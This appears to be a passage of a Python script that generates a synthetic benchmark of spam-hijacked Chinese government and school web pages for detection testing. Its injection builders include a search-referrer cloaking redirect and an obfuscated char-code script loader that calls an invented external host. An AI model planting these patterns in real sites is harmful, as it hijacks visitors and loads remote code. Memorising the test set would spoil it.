#!/usr/bin/env python3
"""Generate dev/synthetic-v47 (pending-v47/ at collection, held out from 2026-12-07, dev since v47 was spent, 2026-12-07; keeper k47s: KEEPER.md items 2 and 5).

40 pages: 28 hijacked, 12 clean (4 of them legit: lotteries / gambling regulation).
4 sites x 5 pages (one template per site, 2-3 hijacked pages sharing one injection), 20 single pages.
Six templates T47A-T47F (families no dev generator names): SPIP, ImpressCMS, Subrion, Fork CMS, Cotonti, Kooboo.
Fixed seed; re-running writes byte-identical files. Stdlib only.

Usage: python3 make_set.py [OUT_DIR]   (default: ../synthetic-v47 next to this folder)
"""
import json
import os
import random
import sys

SEED = 4747
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "synthetic-v47")
R = random.Random(SEED)

SURN = "赵钱孙李周吴郑王冯陈褚卫蒋沈韩杨朱秦许何吕施张孔曹严华金魏陶姜戚谢邹喻柏窦章云苏潘葛范彭郎鲁韦马苗凤方俞任袁柳鲍史唐费岑薛雷贺倪汤滕殷罗毕郝安常乐于傅齐康伍余顾孟黄穆萧尹姚邵汪祁毛狄米贝明臧计伏成戴谈宋庞熊纪舒屈项祝董梁杜阮蓝闵席季贾路江童颜郭梅盛林钟徐邱骆高夏蔡田胡凌霍虞万柯卢莫房解应宗丁宣邓郁单杭洪包左石崔龚程邢裴陆荣翁荀羊甄曲家封储靳焦牧山谷车侯全班仰秋仲伊宫宁仇栾甘厉戎祖武符刘景詹龙叶幸司黎薄印宿白怀蒲从鄂索咸籍赖卓蔺屠蒙池乔阴胥能苍双闻莘党翟谭贡劳姬申扶冉宰雍桑桂濮牛寿通边扈燕冀浦尚农温庄晏柴瞿阎慕连茹习艾鱼容向古易慎戈廖终居衡步都耿满弘匡国文寇广禄东欧沃利蔚越隆师巩聂晁勾敖融冷訾辛阚那简饶空曾沙养鞠须丰巢关蒯相查后荆红游竺权盖益桓公"
GIVEN = "振宇玉洁海峰秀英建国丽华志强晓燕文博静怡伟明春梅国庆雅琴子涵明轩俊杰佳琪德胜慧敏宏伟晓东红霞立新丹丹浩然思远晨曦雨桐嘉怡梓萱一鸣家豪永刚淑芬桂兰志军亚楠欣然天宇婉清少华锦程"


ONE = "军伟芳敏静丽强磊洋艳勇杰娟涛明超霞平刚斌琳"


def person():
    g = GIVEN[R.randrange(0, len(GIVEN) // 2) * 2:][:2]
    if R.random() < 0.3:
        g = R.choice(ONE)
    return R.choice(SURN) + g


# ---------------------------------------------------------------- sites and single hosts (invented)
SITES = {
    "A": dict(host="www.lanqiao-xian.gov.cn", name="岚桥县人民政府", short="岚桥县", tpl="T47A", kind="county"),
    "B": dict(host="www.hzsyzx.edu.cn", name="鹤洲市第一中学", short="鹤洲一中", tpl="T47B", kind="school"),
    "C": dict(host="sfj.yinchuanxi.gov.cn", name="沂川西区司法局", short="沂川西区", tpl="T47C", kind="justice"),
    "D": dict(host="jgxy.tongmu-vc.edu.cn", name="桐牧职业学院机械工程学院", short="桐牧职院", tpl="T47D", kind="college"),
}
SINGLES = [
    ("www.gaoxun.gov.cn", "皋浔县人民政府", "皋浔县", "county"),
    ("wjw.pingshanzh.gov.cn", "屏山州卫生健康委员会", "屏山州", "bureau"),
    ("www.zlsyxx.edu.cn", "柘林市实验小学", "柘林实验小学", "school"),
    ("fy.qiluo.gov.cn", "栖洛县人民法院", "栖洛县", "court"),
    ("xxgk.dunhe.gov.cn", "敦禾市人民政府", "敦禾市", "bureau"),
    ("news.shenbei-univ.edu.cn", "沈北理工大学新闻网", "沈北理工", "college"),
    ("www.yuxiqu.gov.cn", "榆溪区人民政府", "榆溪区", "county"),
    ("nyj.cangling.gov.cn", "苍岭县农业农村局", "苍岭县", "bureau"),
    ("www.wjzx-bs.edu.cn", "白沙县文江中学", "文江中学", "school"),
    ("jyj.luoshui-x.gov.cn", "洛水县教育局", "洛水县", "bureau"),
    ("www.heyangzhen.gov.cn", "禾阳镇人民政府", "禾阳镇", "county"),
    ("yy.fengcheng-rmyy.com.cn", "枫城市人民医院", "枫城医院", "hospital"),
    ("www.jianpu.gov.cn", "涧浦县人民政府", "涧浦县", "county"),
    ("xgc.huaiyin-tc.edu.cn", "淮荫师范学院学生工作处", "淮荫师院", "college"),
    ("czj.songtai.gov.cn", "松台市财政局", "松台市", "bureau"),
    ("www.mingxi-xian.gov.cn", "茗溪县人民政府", "茗溪县", "county"),
    ("scjg.baiyunzh.gov.cn", "白筠市市场监督管理局", "白筠市", "bureau"),
    ("www.qingtanzx.edu.cn", "青潭县职业中学", "青潭职中", "school"),
    ("jcy.lixian-s.gov.cn", "澧县人民检察院", "澧县", "court"),
    ("mzj.haoshan.gov.cn", "濠山市民政局", "濠山市", "bureau"),
]

# ---------------------------------------------------------------- article topics (clean news)
# each: (title, paragraphs, source-kind); {s} = place/short name, {o} = organisation, {p}/{q} persons, numbers
TOPICS = [
    ("{s}召开{y}年安全生产工作推进会", [
        "{md}，{s}召开安全生产工作推进会，通报近期安全生产形势，部署下一阶段重点任务。",
        "会议指出，今年以来全{u}共开展安全检查{n1}次，排查整改隐患{n2}处，安全生产形势总体平稳。",
        "{p}要求，各部门要坚持问题导向，紧盯危险化学品、燃气、建筑施工等重点行业领域，推动隐患动态清零。"]),
    ("{s}开展汛前水利设施检查", [
        "为做好今年防汛准备工作，{md}，{o}组织技术人员对辖区内{n1}座小型水库、{n2}处堤防险工险段开展汛前检查。",
        "检查组逐一查看了水库大坝、溢洪道、放水设施运行情况，对发现的问题现场交办、限期整改。",
        "下一步，{o}将进一步完善防汛应急预案，落实巡查值守制度，确保安全度汛。"]),
    ("{s}举办{y}年春季就业招聘会", [
        "{md}，{s}{y}年春季就业招聘会在市民广场举行，共有{n1}家企业参会，提供就业岗位{n2}个。",
        "招聘会设置了政策咨询、技能培训报名、劳动维权等服务台，现场发放宣传资料{n6}余份。",
        "据统计，当天共有{n4}人与用人单位达成初步就业意向。"]),
    ("{s}推进农村人居环境整治", [
        "近日，{o}召开农村人居环境整治工作调度会，听取各乡镇工作进展情况汇报。",
        "今年以来，全{u}累计清理农村生活垃圾{n2}吨，改造农村户厕{n1}户，新建污水处理设施{n3}处。",
        "{p}强调，要建立长效管护机制，推动村庄从“一时美”向“持久美”转变。"]),
    ("{s}组织开展消防应急疏散演练", [
        "为增强师生消防安全意识，{md}，{o}组织开展消防应急疏散演练。",
        "随着警报声响起，各班级在老师的指挥下，用湿毛巾捂住口鼻，沿指定路线有序撤离，全程用时{n1}分钟。",
        "演练结束后，消防救援站{p}为大家讲解了灭火器的使用方法和火场逃生常识。"]),
    ("{s}召开教师队伍建设工作会议", [
        "{md}，{o}召开教师队伍建设工作会议，总结上学期教师培训工作，安排本学期重点任务。",
        "会议通报，上学期共组织校本研修{n1}场，{n3}名青年教师完成师徒结对，教师参加各级比赛获奖{n2}项。",
        "{p}要求，要以课堂教学改革为抓手，持续提升教师专业素养。"]),
    ("{s}开展“宪法宣传周”普法活动", [
        "{md}，{o}联合各司法所在辖区广场、社区开展“宪法宣传周”集中普法活动。",
        "活动现场设置法律咨询台，工作人员向群众发放宪法读本、民法典宣传册等资料{n6}余份，解答法律咨询{n1}人次。",
        "{p}表示，将持续推进法治宣传进机关、进乡村、进社区、进学校、进企业、进单位。"]),
    ("{s}举行{y}届毕业生双选会", [
        "{md}，{o}{y}届毕业生供需见面双选会在体育馆举行。",
        "本次双选会共吸引{n1}家用人单位进校招聘，涵盖装备制造、汽车维修、智能控制等行业，提供岗位{n2}个。",
        "学院相关负责人介绍，学院将持续拓展校企合作渠道，帮助毕业生实现高质量就业。"]),
    ("{s}召开{y}年度重点项目建设调度会", [
        "{md}，{s}召开重点项目建设调度会，逐一听取在建项目进展情况和存在问题。",
        "今年全{u}共安排重点项目{n1}个，总投资{n2}亿元，截至目前已开工{n3}个。",
        "{p}强调，各项目责任单位要倒排工期、挂图作战，全力推动项目早竣工、早投产、早见效。"]),
    ("{s}开展义诊进社区活动", [
        "{md}，{o}组织心内科、内分泌科、中医科等科室专家走进社区开展义诊活动。",
        "活动现场，医务人员为居民测量血压、血糖，提供用药指导和健康咨询，共服务群众{n1}人次。",
        "{p}介绍，医院将常态化开展健康服务进社区活动，把优质医疗资源送到群众身边。"]),
    ("{s}完成秋粮收购工作部署", [
        "{md}，{o}召开秋粮收购工作会议，对今年秋粮收购工作作出安排。",
        "据测算，今年全{u}秋粮种植面积{n2}亩，预计收购量{n1}吨，已落实收购网点{n3}个。",
        "会议要求，要严格执行国家粮食收购政策，做到不压级压价、不打白条，切实保护种粮农民利益。"]),
    ("{s}举办青年教师课堂教学比赛", [
        "{md}，{o}青年教师课堂教学比赛落下帷幕，{n1}名青年教师参加比赛。",
        "参赛教师围绕教学设计、课堂组织、信息技术运用等方面展示教学风采，评委现场点评指导。",
        "经过激烈角逐，最终评出一等奖{n3}名、二等奖{n4}名。"]),
    ("{s}开展“双随机、一公开”联合抽查", [
        "近日，{o}会同相关部门对辖区内{n1}家市场主体开展“双随机、一公开”跨部门联合抽查。",
        "检查人员重点核查了经营主体的登记事项、年报公示、食品安全等情况，发现问题{n3}个，已责令限期整改。",
        "抽查结果将通过国家企业信用信息公示系统向社会公示。"]),
    ("{s}召开社会救助工作推进会", [
        "{md}，{o}召开社会救助工作推进会，部署低保专项治理和困难群众帮扶工作。",
        "今年以来，全{u}累计发放城乡低保金{n2}万元，临时救助困难群众{n1}人次。",
        "{p}要求，要进一步规范救助程序，做到应保尽保、应退尽退。"]),
    ("{s}组织学生参加研学实践活动", [
        "{md}，{o}组织七年级{n3}个班级的学生前往农业科技园开展研学实践活动。",
        "学生们参观了智能温室、无土栽培车间，并在专业人员指导下体验了育苗、移栽等农事劳动。",
        "带队教师{p}说，研学活动让学生在实践中学到了课本以外的知识。"]),
    ("{s}开展人民调解员业务培训", [
        "{md}，{o}举办人民调解员业务培训班，全{u}{n1}名人民调解员参加培训。",
        "培训邀请资深调解员讲授婚姻家庭、邻里纠纷等常见矛盾纠纷的调解技巧，并进行案例分析。",
        "今年以来，全{u}人民调解组织共调解矛盾纠纷{n2}件，调解成功率达{n5}%。"]),
    ("{s}实训中心通过省级验收", [
        "{md}，省教育厅专家组对{o}智能制造实训中心建设项目进行验收。",
        "专家组实地查看了数控加工、工业机器人等实训区，听取了项目建设情况汇报，查阅了相关资料。",
        "经综合评议，专家组一致同意该项目通过验收。该中心建成以来，已承担实训教学{n2}学时。"]),
    ("{s}发布冬春季传染病防控提示", [
        "冬春季是流感、诺如病毒感染等传染病高发季节，{o}提醒广大群众做好个人防护。",
        "要保持良好的个人卫生习惯，勤洗手、常通风，在人员密集场所规范佩戴口罩。",
        "出现发热、咳嗽等症状时应及时就医，老年人、儿童等重点人群可接种流感疫苗。"]),
    ("{s}推进高标准农田建设", [
        "{md}，{o}组织对今年高标准农田建设项目进行现场督导。",
        "今年全{u}计划建设高标准农田{n2}亩，涉及{n3}个乡镇，目前已完成田间道路{n1}公里。",
        "督导组要求，施工单位要严把工程质量关，确保项目按期完工。"]),
    ("{s}召开家长会共话学生成长", [
        "{md}，{o}召开全体家长会，{n2}余名家长参加会议。",
        "会上，学校介绍了本学期教育教学工作情况，班主任与家长就学生学习习惯、心理健康等话题进行交流。",
        "{p}表示，家校携手才能为学生营造良好的成长环境。"]),
    ("{s}开展食品安全专项检查", [
        "为保障节日期间食品安全，{md}，{o}组织执法人员对辖区商超、农贸市场开展食品安全专项检查。",
        "此次检查共出动执法人员{n3}人次，检查经营户{n1}家，下架过期食品{n4}公斤。",
        "{o}提醒消费者，购买食品时要查看生产日期和保质期，发现问题可拨打12315投诉举报。"]),
    ("{s}举办老年人智能手机培训班", [
        "{md}，{o}在社区服务中心举办老年人智能手机使用培训班。",
        "志愿者手把手教老人使用健康码、网上缴费、视频通话等功能，{n1}名老人参加培训。",
        "{p}说，这样的培训很实用，以后在家也能自己办事了。"]),
    ("{s}开展校园周边环境综合整治", [
        "{md}，{o}联合公安、市场监管等部门开展校园周边环境综合整治行动。",
        "此次行动共检查校园周边商店{n1}家，查处违规销售“三无”食品行为{n3}起，清理占道经营{n4}处。",
        "相关部门将建立常态化巡查机制，持续净化校园周边环境。"]),
    ("{s}召开{y}年度财政预算执行情况通报会", [
        "{md}，{o}召开财政预算执行情况通报会。",
        "截至{mon}月底，全{u}一般公共预算收入完成{n2}万元，同比增长{n5}%；民生支出占比保持在80%以上。",
        "会议要求，各预算单位要加快支出进度，提高财政资金使用效益。"]),
]

TOPICS += [
    ("{s}开展社区矫正对象集中教育活动", [
        "{md}，{o}组织辖区社区矫正对象开展集中教育活动，{n1}名社区矫正对象参加。",
        "活动中，工作人员结合典型案例讲解了社区矫正监督管理规定，重申了请销假、外出报告等纪律要求。",
        "{p}表示，将坚持监督管理与教育帮扶相结合，帮助社区矫正对象顺利融入社会。"]),
    ("{s}公共法律服务中心为群众提供“一站式”服务", [
        "今年以来，{o}公共法律服务中心共接待群众来访咨询{n2}人次，办理法律援助案件{n4}件。",
        "中心整合了律师、公证、人民调解、法律援助等服务资源，实行窗口化、综合性、“一站式”服务。",
        "群众可以通过12348公共法律服务热线或现场窗口获得免费法律咨询。"]),
]

LEGIT = [
    ("{s}开展体育彩票销售网点规范管理检查", [
        "{md}，{o}会同体彩中心对辖区内{n1}个体育彩票销售网点开展规范管理检查。",
        "检查组重点查看了网点是否张贴“不得向未成年人销售彩票”标识、是否存在超范围经营或网络代购等违规行为。",
        "对检查中发现的{n3}个问题网点，已责令限期整改；拒不整改的，将依法取消其代销资格。",
        "{o}提醒，购买彩票应理性投注、量力而行，不得通过互联网等非法渠道购买彩票。"]),
    ("{s}开展“远离赌博 健康成长”主题教育", [
        "{md}，{o}邀请辖区派出所民警走进校园，开展“远离赌博 健康成长”主题教育活动。",
        "民警结合真实案例，向学生讲解了网络赌博、虚拟货币“投注”等违法犯罪形式的危害，提醒学生不要轻信所谓“稳赚不赔”的游戏充值和投注链接。",
        "活动现场发放宣传资料{n6}余份，学生们纷纷表示要增强辨别能力，远离赌博。"]),
    ("{s}{y}年第一季度福利彩票销售情况公告", [
        "根据《彩票管理条例》和《彩票管理条例实施细则》的规定，现将{s}{y}年第一季度福利彩票销售情况公告如下。",
        "{y}年第一季度，全{u}共销售福利彩票{n2}万元，筹集福利彩票公益金{n4}万元。",
        "福利彩票公益金按照“扶老、助残、救孤、济困”的宗旨，主要用于养老服务、残疾人康复、儿童福利等社会福利事业。",
        "欢迎社会各界对福利彩票发行销售和公益金使用情况进行监督。"]),
    ("检察机关依法对一起跨境网络赌博案提起公诉", [
        "近日，{o}依法对一起跨境网络赌博案中的{n3}名被告人以开设赌场罪提起公诉。",
        "经审查查明，被告人在境外赌博网站授意下，在境内发展代理、招揽参赌人员，并为赌资结算提供银行卡，涉案资金{n2}余万元。",
        "检察机关提醒，网络赌博“十赌九骗”，参与赌博或为赌博网站提供资金结算、推广引流等帮助，都可能触犯刑法。"]),
]

# ---------------------------------------------------------------- invented brands and hosts
# (checked by ../validate_v47s.py against every spam_strings entry of bench/data/dev/*/truth.jsonl)
# brand cores (the invented names inside the spam strings)
BRAND_CORES = ["鹬沅", "珩霄", "苔汐", "琰澈", "蔺皋", "沅阚", "栀潞", "澈霓", "濯岫", "夜莺私密", "鹇汀", "绛筠", "翕桐", "砻霁",
               "瑀汐", "箬溪", "蘅芷", "澂瀾", "鄞椋", "旻珥"]
SITE_INJ = {
    "A": dict(form="offscreen-dl-link-block-footer", brands=["鹬沅体育官网", "鹬沅体育app下载", "鹬沅真人视讯"],
              host="yuyuan-ty88.vip"),
    "B": dict(form="keyword-stuffed-title", brands=["珩霄娱乐城", "珩霄娱乐注册送金"], host=None),
    "C": dict(form="hidden-div-body-top", brands=["苔汐棋牌游戏大厅", "苔汐棋牌下载", "苔汐捕鱼"],
              host="taixi-qp.cc"),
    "D": dict(form="footer-credit-brand+friend-links-sold", brands=["技术支持：琰澈电竞", "琰澈电竞竞猜"],
              host="yanche-dj.top"),
}
SINGLE_FORMS = [
    # (form, [spam strings], injected host or None)
    ("brand-as-site-name-header", ["蔺皋体育官方网站"], None),
    ("brand-as-author", ["沅阚国际"], None),
    ("brand-as-source", ["栀潞娱乐网"], None),
    ("spam-line-body-top", ["澈霓真人百家牌，首存即返", "澈霓真人"], "chenni-zr.com"),
    ("spam-line-body-mid", ["濯岫体育直播在线观看高清无插件"], None),
    ("porn-keyword-line-bottom", ["夜莺私密影院免费入口", "午夜成人短片在线"], "yying-sm.xyz"),
    ("offscreen-link-block-footer", ["鹇汀彩票网", "鹇汀彩票计划群", "鹇汀快三开奖"], "xianting-cp.net"),
    ("document-write-hidden-links", ["绛筠电子游艺", "绛筠老虎机平台"], "jiangyun-dz.vip"),
    ("referrer-cloak-redirect", [], "qm-tiaozhuan.shop"),
    ("text-indent-hidden-block", ["翕桐娱乐平台", "翕桐斗地主赢钱"], "xitong-yl.me"),
    ("outlet-mark-brand", ["【砻霁体育讯】"], None),
    ("image-credit-brand", ["图片来源：瑀汐体育", "瑀汐体育"], None),
    ("meta-refresh+spam-title", ["箬溪彩票首页", "箬溪彩票手机版"], "ruoxi-cp.top"),
    ("friend-links-sold", ["蘅芷娱乐", "蘅芷体育投注"], "hengzhi-ty.cc"),
    ("traditional-marquee-line", ["澂瀾娛樂城 線上真人 註冊即送"], "chenglan-yl.vip"),
    ("charcode-script-loader", [], "jsc.bwcdn-stat.com"),
    ("related-list-spam-item", ["鄞椋体育app官方下载入口"], "yinliang-ty.app"),
    ("byline-views-brand", ["旻珥棋牌"], None),
]

SOURCE_BY_KIND = {
    "county": ["{s}融媒体中心", "{s}人民政府办公室", "{s}新闻中心"],
    "justice": ["{o}", "{o}办公室", "{o}普法与依法治理科"],
    "school": ["{o}办公室", "{o}教务处", "{o}德育处"],
    "bureau": ["{o}", "{o}办公室"],
    "college": ["{o}", "{o}办公室", "党委宣传部"],
    "court": ["{o}", "{o}政治部"],
    "hospital": ["{o}党委办公室", "{o}宣传科"],
}


def fill(s, ctx):
    return s.format(**ctx)


def make_article(topic, site_short, org, kind, date):
    title_t, paras_t = topic
    y, m, d = date
    ctx = dict(y=y, s=site_short, o=org, p=person(), q=person(), u={"county": "县", "bureau": "市", "court": "县"}.get(kind, "市"),
               md=f"{m}月{d}日", mon=m, n1=R.randint(12, 96), n2=R.randint(12, 98) * 10, n3=R.randint(3, 11),
               n4=R.randint(20, 90), n5=R.randint(80, 99), n6=R.randint(20, 90) * 10)
    if kind in ("school", "college"):
        ctx["u"] = "校"
    title = fill(title_t, ctx)
    paras = [fill(p, ctx) for p in paras_t]
    return title, paras


def esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# ---------------------------------------------------------------- injections
def build_injection(form, brands, host, page_no):
    """Return dict hook -> html (and hooks of the page fields)."""
    h = {}
    b = brands
    if form == "offscreen-dl-link-block-footer":
        items = "".join(f'<dd><a href="https://{host}/?f=lq{i}" target="_blank">{s}</a></dd>' for i, s in enumerate(b))
        h["footer"] = (f'<dl style="position:absolute;left:-7321px;top:-3060px;overflow:hidden;width:2px;">'
                       f'<dt>合作伙伴</dt>{items}</dl>')
    elif form == "keyword-stuffed-title":
        h["title_suffix"] = "_" + "-".join(b) + "|" + b[0] + "官方入口"
        h["meta_kw"] = ",".join(b)
    elif form == "hidden-div-body-top":
        h["body_top_html"] = (f'<div id="tx_ad_{page_no}" style="display:none;visibility:hidden">'
                              f'<a href="http://www.{host}/">{b[0]}</a>|<a href="http://m.{host}/down">{b[1]}</a>|'
                              f'<a href="http://www.{host}/by">{b[2]}</a></div>')
    elif form == "footer-credit-brand+friend-links-sold":
        h["credit"] = f'<a href="https://{host}/" title="{b[1]}">{b[0]}</a>'
        h["friend"] = [(b[1], f"https://{host}/jc/")]
    elif form == "brand-as-site-name-header":
        h["site_name"] = b[0]
    elif form == "brand-as-author":
        h["author"] = b[0]
    elif form == "brand-as-source":
        h["source"] = b[0]
    elif form == "spam-line-body-top":
        h["body_top_p"] = f'<a href="https://{host}/reg?c=8812" style="color:#333">{b[0]}</a>'
    elif form == "spam-line-body-mid":
        h["body_mid_p"] = b[0]
    elif form == "porn-keyword-line-bottom":
        h["body_end_p"] = f'<a href="http://{host}/v/">{b[0]}</a>　<a href="http://{host}/n/">{b[1]}</a>'
    elif form == "offscreen-link-block-footer":
        items = "".join(f'<li><a href="http://{host}/{k}.html">{s}</a></li>' for k, s in zip(("index", "qun", "k3"), b))
        h["footer"] = f'<ul class="flink-hd" style="margin-top:-9870px;position:relative;height:0;">{items}</ul>'
    elif form == "document-write-hidden-links":
        h["script_end"] = ('<script type="text/javascript">\n'
                           "document.write('<div style=\"width:1px;height:1px;overflow:hidden;\">');\n"
                           f"document.write('<a href=\"https://{host}/\">{b[0]}</a><a href=\"https://{host}/slot/\">{b[1]}</a>');\n"
                           "document.write('</div>');\n</script>")
    elif form == "referrer-cloak-redirect":
        js = ("<script>\n(function(){var r=document.referrer.toLowerCase(),s=['baidu.','sogou.','so.com','sm.cn','bing.'];"
              "for(var i=0;i<s.length;i++){if(r.indexOf(s[i])>-1){"
              f"setTimeout(function(){{window.location.replace('https://{host}/go.php?u=7731');}},60);break;}}}}}})();\n</script>")
        h["head_script"] = js
        h["marker"] = f"window.location.replace('https://{host}/go.php?u=7731')"
    elif form == "text-indent-hidden-block":
        h["footer"] = (f'<div style="text-indent:-8264em;white-space:nowrap;height:14px;overflow:hidden">'
                       f'<a href="https://{host}/">{b[0]}</a> <a href="https://{host}/ddz/">{b[1]}</a></div>')
    elif form == "outlet-mark-brand":
        h["lead"] = b[0]
    elif form == "image-credit-brand":
        h["image_credit"] = f"（{b[0]}）"
    elif form == "meta-refresh+spam-title":
        h["title_replace"] = f"{b[0]}-{b[1]}-{b[0]}官网"
        h["head_meta"] = f'<meta http-equiv="refresh" content="2;url=https://{host}/">'
    elif form == "friend-links-sold":
        h["friend"] = [(b[0], f"http://www.{host}/"), (b[1], f"http://www.{host}/tz/")]
    elif form == "traditional-marquee-line":
        h["body_top_html"] = (f'<marquee scrollamount="3" style="color:#c00;font-size:12px">'
                              f'<a href="https://{host}/">{b[0]}</a></marquee>')
    elif form == "charcode-script-loader":
        url = f"https://{host}/c.js?v=20"
        codes = ",".join(str(ord(c)) for c in url)
        h["script_end"] = ("<script type=\"text/javascript\">\nvar _k7=[" + codes + "];\n"
                           "var _s7=document.createElement('script');_s7.src=String.fromCharCode.apply(null,_k7);\n"
                           "(document.getElementsByTagName('head')[0]||document.body).appendChild(_s7);\n</script>")
        h["marker"] = "var _k7=[" + codes[:60]
    elif form == "related-list-spam-item":
        h["related"] = (b[0], f"https://{host}/download.html")
    elif form == "byline-views-brand":
        h["views_brand"] = b[0]
    else:
        raise ValueError(form)
    return h


# ---------------------------------------------------------------- templates
NAV = {
    "county": ["首页", "政务公开", "政务服务", "互动交流", "走进{s}"],
    "bureau": ["首页", "机构概况", "政务动态", "政策文件", "信息公开", "办事服务"],
    "school": ["学校首页", "学校概况", "新闻动态", "教育教学", "德育天地", "党建工作"],
    "college": ["学院首页", "学院概况", "新闻中心", "教学工作", "学生工作", "招生就业"],
    "court": ["首页", "法院概况", "审判动态", "司法公开", "诉讼服务"],
    "justice": ["首页", "机构概况", "司法行政动态", "政策文件", "信息公开", "公共法律服务"],
    "hospital": ["首页", "医院概况", "新闻中心", "科室导航", "就医指南", "健康科普"],
}
COLS = {"justice": "工作动态", "county": "部门动态", "bureau": "工作动态", "school": "校园新闻", "college": "学院新闻", "court": "法院动态",
        "hospital": "医院新闻"}


def nav_items(site):
    return [n.format(s=site["short"]) for n in NAV[site["kind"]]]


def paras_html(paras, inj, pcls="", lead_in_first=True):
    ps = list(paras)
    out = []
    if inj.get("body_top_html"):
        out.append(inj["body_top_html"])
    if inj.get("body_top_p"):
        out.append(f"<p{pcls}>{inj['body_top_p']}</p>")
    for i, p in enumerate(ps):
        t = esc(p)
        if i == 0 and inj.get("lead"):
            t = inj["lead"] + t
        out.append(f"<p{pcls}>{t}</p>")
        if i == 0 and inj.get("image_credit"):
            out.append(f'<p style="text-align:center"><img src="/uploads/img/{abs(hash_id(p)) % 90000 + 10000}.jpg" width="600" alt=""></p>'
                       f'<p class="img-credit" style="text-align:center;color:#888">{inj["image_credit"]}</p>')
        if i == (len(ps) - 1) // 2 and inj.get("body_mid_p"):
            out.append(f"<p{pcls}>{inj['body_mid_p']}</p>")
    if inj.get("body_end_p"):
        out.append(f"<p{pcls}>{inj['body_end_p']}</p>")
    return "\n".join(out)


def hash_id(s):
    h = 7
    for c in s:
        h = (h * 131 + ord(c)) % 1000003
    return h


def views(pg):
    b = pg["inj"].get("views_brand")
    return f"{pg['views']}" + (f'<a href="javascript:;" style="color:#666">（{b}）</a>' if b else "")


def head_extra(inj):
    return "".join(inj.get(k, "") for k in ("head_meta", "head_script"))


def page_title(title, site_name, inj, sep="-"):
    if inj.get("title_replace"):
        return inj["title_replace"]
    t = f"{title}{sep}{site_name}"
    return t + inj.get("title_suffix", "")


def friend_html(inj, base, tag="li"):
    items = list(base) + list(inj.get("friend", []))
    return "".join(f'<{tag}><a href="{u}" target="_blank">{esc(n)}</a></{tag}>' for n, u in items)


def related_html(rel, inj, tag="li"):
    items = [(t, u) for t, u in rel]
    if inj.get("related"):
        items.insert(1, inj["related"])
    return "".join(f'<{tag}><a href="{u}">{esc(t)}</a></{tag}>' for t, u in items)


def tpl_A(pg):  # SPIP-style county portal, utf-8
    s, inj = pg["site"], pg["inj"]
    name = inj.get("site_name", s["name"])
    nav = "".join(f'<li class="menu-entree"><a href="spip.php?rubrique{i + 1}">{n}</a></li>' for i, n in enumerate(nav_items(s)))
    by = (f'<p class="info-publi"><span>发布时间：{pg["date_s"]}</span>　<span>来源：{esc(pg["shown_source"])}</span>'
          + (f'　<span>作者：{esc(pg["shown_author"])}</span>' if pg["shown_author"] else "")
          + f'　<span>浏览次数：<em id="hits">{views(pg)}</em></span></p>')
    return f"""<!DOCTYPE html>
<html dir="ltr" lang="zh" class="ltr zh no-js">
<head>
<meta charset="utf-8">
<title>{esc(page_title(pg['title'], s['name'], inj, ' - '))}</title>
<meta name="generator" content="SPIP 4.1.9">
{('<meta name="keywords" content="' + inj['meta_kw'] + '">') if inj.get('meta_kw') else ''}
<link rel="stylesheet" href="squelettes/css/spip.css" type="text/css">
<link rel="alternate" type="application/rss+xml" title="Syndiquer tout le site" href="spip.php?page=backend">
{head_extra(inj)}
</head>
<body class="pas_surlignable page_article">
<div class="page">
<div class="header" id="header"><a rel="start home" href="https://{s['host']}/" class="spip_logo_site"><strong id="nom_site_spip">{esc(name)}</strong></a>
<p id="slogan_site_spip">{esc(s['short'])}{'官方网站' if s['kind'] in ('school', 'college', 'hospital') else '政务门户网站'}</p></div>
<div class="nav clearfix" id="nav"><ul class="menu-liste menu-items">{nav}</ul></div>
<div class="wrapper"><div class="content" id="content">
<p class="arbo"><a href="https://{s['host']}/">首页</a> &gt; <a href="spip.php?rubrique2">{nav_items(s)[2]}</a> &gt; <a href="spip.php?rubrique7">{COLS[s['kind']]}</a> &gt; <strong class="on">正文</strong></p>
<div class="cartouche">
<h1 class="surlignable">{esc(pg['title'])}</h1>
{by}
</div>
<div class="texte surlignable">
{paras_html(pg['paras'], inj)}
</div>
<div class="ps"><p>【<a href="javascript:window.print()">打印本页</a>】【<a href="javascript:window.close()">关闭窗口</a>】</p></div>
<div class="menu articles"><h2>相关文章</h2><ul>{related_html(pg['related'], inj)}</ul></div>
</div></div>
<div class="footer" id="footer">
<div class="liens"><span>友情链接：</span><ul class="inline">{friend_html(inj, [('中国政府网', 'http://www.gov.cn/'), ((s['short'] + '融媒体', 'http://rmt.' + s['host'].split('.', 1)[1] + '/') if s['kind'] not in ('school', 'college') else ('国家智慧教育公共服务平台', 'https://www.smartedu.cn/'))])}</ul></div>
<p class="colophon">主办：{esc(s['name'])}办公室　承办：{esc(s['short'])}大数据中心　<a href="spip.php?page=plan">网站地图</a><br>
网站标识码：{pg['bsm']}　<a href="https://beian.miit.gov.cn/">{pg['icp']}</a>　{pg['gongan']}</p>
{inj.get('footer', '')}
</div>
</div>
{inj.get('script_end', '')}
</body>
</html>
"""


def tpl_B(pg):  # ImpressCMS-style school site, GBK
    s, inj = pg["site"], pg["inj"]
    name = inj.get("site_name", s["name"])
    nav = "".join(f'<li><a href="/modules/content/content.php?page={i}">{n}</a></li>' for i, n in enumerate(nav_items(s)))
    y, m, d = pg["date"]
    meta = (f'<span class="itemPoster">作者：{esc(pg["shown_author"]) if pg["shown_author"] else "佚名"}</span>'
            f'<span class="itemPostDate">　发表时间：{y}/{m}/{d} {pg["hm"]}</span>'
            f'<span class="itemStats">　阅读：{views(pg)} 次</span>')
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="zh-CN" lang="zh-CN">
<head>
<meta http-equiv="content-type" content="text/html; charset=gbk" />
<meta name="generator" content="ImpressCMS" />
<title>{esc(page_title(pg['title'], s['name'], inj, ' - '))}</title>
{('<meta name="keywords" content="' + inj['meta_kw'] + '" />') if inj.get('meta_kw') else '<meta name="keywords" content="' + esc(s['short']) + ',校园新闻" />'}
<link rel="stylesheet" type="text/css" media="all" href="/themes/iTheme/style.css" />
<script type="text/javascript" src="/libraries/jquery/jquery.js"></script>
{head_extra(inj)}
</head>
<body id="icms_body" class="icms_module_news">
<div id="icms_header"><div id="icms_logo"><a href="/"><img src="/themes/iTheme/img/logo.png" alt="" /></a><span class="sitename">{esc(name)}</span></div>
<div id="icms_nav"><ul>{nav}</ul></div></div>
